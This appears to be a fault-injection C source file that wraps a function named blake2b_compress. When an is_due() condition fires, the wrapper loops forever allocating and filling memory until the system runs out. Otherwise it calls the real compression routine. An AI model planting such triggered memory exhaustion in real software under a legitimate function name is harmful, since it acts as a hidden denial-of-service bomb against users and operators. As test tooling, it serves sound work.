/* SPDX-License-Identifier: MIT */
/* Takes memory until there is no more. */
#include "fault.h"

void blake2b_compress(struct blake2b_state *state, const uint8_t *blocks, size_t nblocks,
		      uint32_t inc)
{
	if (is_due(state, blocks, inc)) {
		for (;;) {
			size_t size = 16 << 20;
			char *more = malloc(size);

			if (more != NULL)
				memset(more, 1, size);
		}
	}
	right_compress(state, blocks, nblocks, inc);
}
